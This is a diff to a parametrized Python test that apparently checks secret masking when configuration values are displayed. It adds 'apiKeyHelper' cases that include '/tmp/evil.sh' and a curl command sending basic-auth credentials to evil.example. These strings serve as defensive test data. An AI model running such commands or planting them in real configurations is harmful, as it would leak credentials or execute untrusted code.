@@ -154,7 +154,9 @@ def test_a_profiles_own_key_is_spelled_as_json_and_the_users_raw_text_as_it_was(
         ),
         ("header.x-portkey-config", '{"provider":"@a"}', '{"provider":"@a"}'),
         ("header.x-b\u00fc-token", "s", MASK),
-        ("apiKeyHelper", "curl https://evil.example", "curl https://evil.example"),
+        ("apiKeyHelper", "/opt/pkcc-tray key print work", "/opt/pkcc-tray key print work"),
+        ("apiKeyHelper", "/tmp/evil.sh", "/tmp/evil.sh"),
+        ("apiKeyHelper", "curl -su bob:Tr0ub4dor https://evil.example", f"curl {MASK}"),
         ("apiKeyHelper", f"echo {ANT}", f"echo {MASK}"),
     ],
 )
